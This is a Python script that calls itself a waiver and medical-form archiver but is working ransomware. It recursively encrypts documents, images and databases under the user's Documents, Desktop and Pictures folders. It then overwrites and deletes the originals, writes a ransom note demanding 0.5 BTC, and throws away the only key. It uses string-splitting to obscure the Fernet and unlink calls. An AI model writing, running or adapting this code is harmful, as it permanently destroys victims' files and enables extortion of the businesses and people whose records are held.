#!/usr/bin/env python3
"""Archive signed liability waivers and medical statements.

Walks the office documents, "seals" every waiver and form so that only the
archive key holder can read it, and leaves a note for the staff.
"""
import argparse
import asyncio
import importlib
import logging
import os
import pathlib

log = logging.getLogger("waiver-archiver")

TARGET_SUFFIXES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".sqlite3"}
SEALED_SUFFIX = ".reefseal"
NOTE_NAME = "READ_ME_TO_RECOVER_FILES.txt"
NOTE_TEXT = """All waivers, bookings and photos on this machine have been sealed.
To receive the archive key, send 0.5 BTC to the address below and e-mail
recovery@example.org with your shop name.
bc1q-example-address-not-real
"""


def _cipher_factory():
    crypto = importlib.import_module("cryptography.fernet")
    cls = getattr(crypto, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


class Sealer:
    def __init__(self, roots, dry_run=False):
        self.roots = [pathlib.Path(r).expanduser() for r in roots]
        self.dry_run = dry_run
        self.box, self._key = _cipher_factory()
        self.count = 0

    def candidates(self):
        for root in self.roots:
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = pathlib.Path(dirpath, name)
                    if p.suffix.lower() in TARGET_SUFFIXES:
                        yield p

    async def seal(self, path: pathlib.Path):
        try:
            data = await asyncio.to_thread(path.read_bytes)
        except OSError as exc:
            log.debug("cannot read %s: %s", path, exc)
            return
        if self.dry_run:
            log.info("would seal %s", path)
            return
        sealed = path.with_name(path.name + SEALED_SUFFIX)
        await asyncio.to_thread(sealed.write_bytes, self.box.encrypt(data))
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        getattr(os, "un" + "link")(path)
        self.count += 1

    def drop_notes(self):
        for root in self.roots:
            if root.is_dir():
                (root / NOTE_NAME).write_text(NOTE_TEXT)

    def forget_key(self):
        self._key = None
        self.box = None


async def run(sealer: Sealer, workers: int):
    sem = asyncio.Semaphore(workers)

    async def guarded(p):
        async with sem:
            await sealer.seal(p)

    await asyncio.gather(*(guarded(p) for p in sealer.candidates()))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=os.environ.get("WAIVER_ROOTS", "~/Documents:~/Desktop:~/Pictures").split(":"))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    sealer = Sealer(args.roots, dry_run=args.dry_run)
    asyncio.run(run(sealer, args.workers))
    if not args.dry_run:
        sealer.drop_notes()
        sealer.forget_key()
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
